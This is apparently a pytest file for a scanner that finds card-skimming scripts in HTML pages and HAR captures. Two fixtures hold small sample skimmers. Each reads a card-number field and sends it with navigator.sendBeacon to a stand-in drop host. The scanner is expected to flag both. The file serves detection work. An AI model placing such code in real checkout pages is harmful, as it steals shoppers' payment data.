"""HTML extraction: inline scripts, handler attributes, javascript: URLs, local script src."""

from __future__ import annotations

from pathlib import Path

from skimscan.extract.files import load_file
from skimscan.extract.html import parse_html
from skimscan.models import ScriptKind

PAGE = """<!doctype html><html><head>
<meta http-equiv="Content-Security-Policy" content="script-src 'self'">
<script src="/js/app.js" integrity="sha384-abc"></script>
<script type="application/ld+json">{"a": 1}</script>
</head><body>
<form action="/pay" id="checkout">
  <input id="cc" autocomplete="cc-number">
  <input name="payment[cc_cid]">
  <input name="email">
  <button onclick="track('pay')">Pay</button>
  <a href="javascript:void(send())">x</a>
</form>
<iframe src="https://js.stripe.com/v3/elements"></iframe>
<script>
var x = 1;
</script>
</body></html>"""


def test_parse_html_finds_every_kind_of_script() -> None:
    doc = parse_html(PAGE)
    kinds = sorted(s.kind for s in doc.scripts)
    assert kinds == ["handler", "inline", "javascript-url"]
    inline = next(s for s in doc.scripts if s.kind == "inline")
    assert "var x = 1" in inline.code and inline.line == 14
    assert doc.external == (("/js/app.js", "sha384-abc", 3),)
    assert doc.forms == ("/pay",)
    assert {f.selector for f in doc.card_fields} == {"#cc", 'input[name="payment[cc_cid]"]'}
    assert doc.iframes == ("https://js.stripe.com/v3/elements",)
    assert doc.csp_meta == ("script-src 'self'",)


def test_load_file_reads_local_script_src(tmp_path: Path) -> None:
    (tmp_path / "js").mkdir()
    (tmp_path / "js" / "app.js").write_text("console.log(1)")
    page = tmp_path / "index.html"
    page.write_text(PAGE.replace('<script src="/js/app.js" integrity="sha384-abc">',
                                 '<script src="js/app.js">')
                    + '<script src="https://cdn.example.com/x.js"></script>'
                    + '<script src="missing.js"></script>')
    target = load_file(page)
    assert target.error is None
    external = [s for s in target.scripts if s.kind is ScriptKind.EXTERNAL]
    assert len(external) == 1 and external[0].code == "console.log(1)"
    assert any("https://cdn.example.com/x.js" in n and "not fetched" in n for n in target.notes)
    assert any("missing.js" in n for n in target.notes)
    [program] = [s for s in target.scripts if s.kind is ScriptKind.INLINE]
    lines = program.code.split("\n")
    assert lines[14] == "var x = 1;"  # document line 15
    assert "track('pay')" in lines[9] and ".call(document.querySelector(" in lines[10]


def test_handlers_share_globals_and_see_their_element(tmp_path: Path) -> None:
    """A handler on a card input copies `this.value` into a global; the form's handler sends the
    global: one flow, because the browser runs both in one global scope."""
    page = tmp_path / "pay.html"
    page.write_text(
        "<form onsubmit=\"navigator.sendBeacon('https://drop-cdn.example.net/c', "
        "JSON.stringify(window._b))\">\n"
        "<input name='x_card_num' onblur='window._b = {n: this.value}'>\n</form>\n"
    )
    from skimscan.pipeline import Engine, EngineOptions, scan_files

    [target] = scan_files([page], engine=Engine(EngineOptions(use_disk_cache=False))).targets
    flows = [f for f in target.findings if f.rule == "card-data-to-untrusted-host"]
    assert flows and flows[0].location is not None and flows[0].location.line == 1


def test_har_files_yield_their_scripts(tmp_path: Path) -> None:
    import base64
    import json

    skimmer = ("var n = document.querySelector('#cc_number').value;\n"
               "navigator.sendBeacon('https://drop-metrics.example.net/c', n);\n")
    har = {"log": {"entries": [
        {"request": {"url": "https://shop.example/app.js"},
         "response": {"content": {"mimeType": "application/javascript",
                                  "text": base64.b64encode(skimmer.encode()).decode(),
                                  "encoding": "base64"}}},
        {"request": {"url": "https://shop.example/logo.png"},
         "response": {"content": {"mimeType": "image/png"}}},
        {"request": {"url": "https://shop.example/checkout"},
         "response": {"content": {"mimeType": "text/html",
                                  "text": "<button onclick=\"go()\">Pay</button>"}}},
    ]}}
    path = tmp_path / "checkout.har"
    path.write_text(json.dumps(har))
    from skimscan.pipeline import Engine, EngineOptions, scan_files

    [target] = scan_files([tmp_path], engine=Engine(EngineOptions(use_disk_cache=False))).targets
    assert [s.url for s in target.scripts] == ["https://shop.example/app.js",
                                               "https://shop.example/checkout#document-scripts"]
    assert target.verdict.value == "malicious"
    (tmp_path / "checkout.har").write_text("{\"not\": \"a har\"}")
    [broken] = scan_files([path], engine=Engine(EngineOptions(use_disk_cache=False))).targets
    assert broken.verdict.value == "error" and "not a HAR file" in (broken.error or "")
